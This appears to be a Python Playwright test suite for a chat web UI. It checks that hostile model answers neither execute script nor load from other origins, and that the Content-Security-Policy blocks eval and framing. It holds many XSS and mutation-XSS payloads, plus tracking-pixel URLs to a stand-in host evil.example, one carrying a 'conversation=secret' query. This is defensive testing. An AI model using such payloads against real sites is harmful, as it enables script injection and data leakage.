"""Model answers are untrusted: in Chromium, hostile answers execute nothing, load nothing from
elsewhere, and the page never talks to another origin."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from aiohttp import web

from g4f.testing.openai_replica import Reply
from g4f.testing.server import LocalServer

from .pages import answers, choose, open_chat, send, thread, wait_answered

pytestmark = pytest.mark.browser

GROQ_MODEL = "llama-3.3-70b-versatile"
ELSEWHERE = "https://evil.example"

#: Each line would set ``window.__xss`` (or the parent's) if anything of it ran.
XSS = f"""Here is what you asked for.

<img src=x onerror="window.__xss = 'img onerror'">
<script>window.__xss = 'script'</script>
[a javascript link](javascript:window.__xss='markdown link')
<a id="evil-anchor" href="javascript:window.__xss='anchor'">an anchor</a>
<a href="JaVaScRiPt:window.__xss='mixed case'">mixed case</a>
<a href="&#106;avascript:window.__xss='entity'">entity</a>
<iframe src="javascript:parent.__xss='iframe'"></iframe>
<iframe srcdoc="<script>parent.__xss='srcdoc'</script>"></iframe>
<svg onload="window.__xss='svg'"><circle r="5"/></svg>
<details open ontoggle="window.__xss='ontoggle'"><summary>open me</summary>inside</details>
<form action="javascript:window.__xss='form'"><button>go</button></form>
<object data="javascript:window.__xss='object'"></object><embed src="javascript:window.__xss='embed'">
<div style="background: url({ELSEWHERE}/style.png)">styled</div>
<img src="{ELSEWHERE}/pixel.png" alt="pixel">
<img srcset="{ELSEWHERE}/srcset.png 1x">
<picture><source srcset="{ELSEWHERE}/source.png"><img src="{ELSEWHERE}/picture.png"></picture>
<video poster="{ELSEWHERE}/poster.png"></video>
<table background="{ELSEWHERE}/table.png"><tr><td>cell</td></tr></table>
<link rel="stylesheet" href="{ELSEWHERE}/style.css">
<meta http-equiv="refresh" content="0; url={ELSEWHERE}/refresh">
<base href="{ELSEWHERE}/">

![a tracking pixel]({ELSEWHERE}/track.png?conversation=secret)

<a class="scrim" href="{ELSEWHERE}/dressed">a link dressed as the page</a>
<input type="checkbox" onclick="window.__xss='input'">
<p>and the end.</p>
"""

#: Markdown's own ways to a script: what marked turns into links and images (DOMPurify's part).
MARKDOWN_XSS = """Links:

[a javascript link](javascript:window.__xss='markdown-link')
[mixed case](JaVaScRiPt:window.__xss='mixed')
[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9J2RhdGEnPC9zY3JpcHQ+)
[vbscript](vbscript:msgbox)
<javascript:window.__xss='autolink'>
[a reference][evil]
![an image](javascript:window.__xss='image')

[evil]: javascript:window.__xss='reference'
"""
MARKDOWN_LINKS = ("a javascript link", "mixed case", "data", "vbscript", "javascript:window.__xss='autolink'",
                  "a reference")

#: Mutation XSS: markup that changes meaning when parsed twice (DOMPurify drops the rest).
MXSS = """Before.

<math><mtext><table><mglyph><style><img src=x onerror="window.__xss='mxss'">
<noscript><p title="</noscript><img src=x onerror=window.__xss='noscript'>">
"""

#: Attributes and elements that must not be in the rendered answer at all.
LEFTOVERS = """() => {
    const root = document.getElementById('thread');
    const tags = ['script', 'iframe', 'svg', 'math', 'form', 'object', 'embed', 'style', 'link', 'meta',
                  'base', 'video', 'picture', 'source', 'input', 'button:not(.ghost):not(.small)'];
    const found = tags.filter(tag => root.querySelector('article.assistant ' + tag));
    for (const el of root.querySelectorAll('article.assistant *')) {
        for (const attr of el.attributes) {
            if (attr.name.startsWith('on') || ['style', 'srcset', 'background', 'poster'].includes(attr.name)) {
                found.push(el.tagName + '[' + attr.name + ']');
            }
            if (/^\\s*javascript:/i.test(attr.value)) found.push(el.tagName + '[' + attr.name + '=javascript:]');
        }
    }
    return found;
}"""


def elsewhere(urls, origin):
    return [url for url in urls if urlsplit(url).scheme not in ("data", "blob")
            and f"{urlsplit(url).scheme}://{urlsplit(url).netloc}" != origin]


def test_hostile_answers_execute_nothing_and_load_nothing(page, chat, watched):
    server = chat()
    server.groq.replies.append(Reply(content=XSS))
    # The same payload as thinking (a reasoning model's <think> block is rendered as well).
    server.groq.replies.append(Reply(pieces=["<think>", XSS, "</think>", "\n\nDone."]))
    server.groq.replies.append(Reply(content=MXSS))
    server.groq.replies.append(Reply(content=MARKDOWN_XSS))
    open_chat(page, server)
    choose(page, "Groq", GROQ_MODEL)
    send(page, "Show me some HTML")
    wait_answered(page)
    send(page, "Think about it")
    wait_answered(page, 2)
    send(page, "Once more")
    wait_answered(page, 3)
    send(page, "And links")
    wait_answered(page, 4)
    page.locator("details.reasoning > summary").click()  # opened, so its content is live

    # The answer's own HTML is shown as text: the reader sees what the model wrote.
    shown = answers(page)
    assert "<script>window.__xss = 'script'</script>" in shown[0]
    assert shown[0].startswith("Here is what you asked for.") and shown[0].endswith("and the end.")
    assert "<img src=x onerror=" in page.locator("details.reasoning .reasoning-text").inner_text()
    # Markdown links keep their text and lose their script.
    links = page.locator("#thread article.assistant").nth(3).locator(".content a")
    assert links.all_inner_texts()[:len(MARKDOWN_LINKS)] == list(MARKDOWN_LINKS)
    assert links.evaluate_all("links => links.map(a => a.getAttribute('href'))")[:len(MARKDOWN_LINKS)] == [
        None] * len(MARKDOWN_LINKS)
    for index in range(len(MARKDOWN_LINKS)):
        links.nth(index).click()
    page.wait_for_timeout(300)
    assert page.evaluate("typeof window.__xss") == "undefined"
    assert page.evaluate(LEFTOVERS) == []

    # An image the answer wrote into its text is a link, not a request.
    blocked = page.locator("#thread .blocked-image", has_text="[image: a tracking pixel]").first
    assert blocked.get_attribute("href") == f"{ELSEWHERE}/track.png?conversation=secret"
    links = page.locator("#thread article.assistant .content a").evaluate_all(
        "links => links.map(a => [a.getAttribute('target'), a.getAttribute('rel'), a.className])")
    assert all(target == "_blank" and "noopener" in rel for target, rel, _ in links)
    assert all(name in ("", "blocked-image") for _, _, name in links), "no page class borrowed"

    assert elsewhere(watched.requests, server.origin) == []
    # The page stopped it all: the Content-Security-Policy had nothing left to refuse.
    assert not watched.policy_refusals, "\n".join(watched.policy_refusals)


def test_the_sanitizer_alone_removes_what_could_run(page, chat, watched):
    """DOMPurify's layer without the first one: raw hostile HTML straight into the sanitizer."""
    server = chat()
    # Parsing hostile HTML (in DOMPurify's inert document) makes the policy note handlers and
    # styles it would refuse; none of them runs, which is what this test checks.
    watched.policy_refusals_expected = True
    open_chat(page, server)
    page.evaluate("""async payloads => {
        const { sanitize } = await import('./gui/js/markdown.js');
        const box = document.createElement('div');
        box.id = 'sanitized';
        for (const payload of payloads) box.append(sanitize(payload));
        document.getElementById('thread').append(box);
    }""", [XSS, MXSS])
    page.wait_for_timeout(500)
    assert page.evaluate("typeof window.__xss") == "undefined"
    assert page.evaluate(LEFTOVERS.replace("article.assistant", "#sanitized")) == []
    assert page.locator("#sanitized .blocked-image", has_text="[image: pixel]").count() == 1
    assert elsewhere(watched.requests, server.origin) == []


def test_a_users_own_message_is_shown_as_text(page, chat, watched):
    server = chat()
    open_chat(page, server)
    choose(page, "Groq", GROQ_MODEL)
    send(page, "<img src=x onerror=\"window.__xss='mine'\"> **not bold**")
    wait_answered(page)
    assert thread(page)[0]["text"] == "<img src=x onerror=\"window.__xss='mine'\"> **not bold**"
    assert page.evaluate("typeof window.__xss") == "undefined"
    assert page.locator("#thread article.user img").count() == 0


def test_the_page_talks_to_its_own_origin_only(page, chat, watched):
    server = chat()
    server.groq.replies.append(Reply(content="# Title\n\n```js\nconsole.log(1)\n```\n\n![x](https://example.com/a.png)"))
    open_chat(page, server)
    choose(page, "Groq", GROQ_MODEL)
    send(page, "Hello")
    wait_answered(page)
    choose(page, "Grok", "grok-3-thinking")
    send(page, "Think")
    wait_answered(page, 2)
    page.click("#new-chat")
    page.click("#theme")
    page.reload()
    page.wait_for_selector("#setup .provider-list", state="attached")
    assert len(watched.requests) >= 10  # the page, its modules, the lists, two answers, again
    assert elsewhere(watched.requests, server.origin) == []
    # Relative URLs only: the same page works behind any host name the server is reached by.
    assert {urlsplit(url).path for url in watched.requests} >= {"/", "/gui/js/app.js", "/v1/providers",
                                                                "/v1/models", "/v1/chat/completions"}


def test_the_policy_forbids_inline_script_eval_and_framing(page, chat, background, watched):
    server = chat()
    watched.policy_refusals_expected = True  # refusing is what this test is about
    # The page's own first script, swapped for one that tries what an injected script would:
    # the policy still holds for code that runs with the page's own rights.
    probe = """
        window.__probe = {};
        try { eval('1'); window.__probe.eval = 'ran'; } catch (e) { window.__probe.eval = e.name; }
        try { new Function('return 1')(); window.__probe.function = 'ran'; } catch (e) { window.__probe.function = e.name; }
        try {
            const script = document.createElement('script');
            script.textContent = 'window.__probe.inline = "ran"';
            document.head.append(script);
        } catch (e) { window.__probe.inline = e.name; }
        try { document.documentElement.insertAdjacentHTML('beforeend', '<b>x</b>'); window.__probe.html = 'ran'; }
        catch (e) { window.__probe.html = e.name; }
    """
    page.route("**/gui/js/theme.js", lambda route: route.fulfill(body=probe, content_type="text/javascript"))
    open_chat(page, server)
    assert page.evaluate("window.__probe") == {
        "eval": "EvalError", "function": "EvalError",  # no eval
        "inline": "TypeError",  # no inline script (Trusted Types refuse even to build one)
        "html": "TypeError",  # only DOMPurify turns text into HTML
    }

    # Another site cannot frame the chat (clickjacking). The same page frames the grok.com
    # replica's page (which allows it) beside it, to show that framing works there.
    async def framing_site():
        app = web.Application()

        async def home(request):
            return web.Response(text=f'<iframe id="chat" src="{server.url}"></iframe>'
                                     f'<iframe id="control" src="{server.grok_url}/"></iframe>',
                                content_type="text/html")

        app.router.add_get("/", home)
        return await LocalServer(app).start()

    site = background.run(framing_site())
    try:
        other = page.context.new_page()
        other.goto(site.url)
        other.frame_locator("#control").locator("h1, form").first.wait_for()
        urls = [frame.url for frame in other.frames]
        assert f"{server.grok_url}/" in urls and server.url not in urls, urls  # refused: frame-ancestors
        assert other.frame_locator("#chat").locator("#prompt").count() == 0
        other.close()
    finally:
        background.run(site.close())
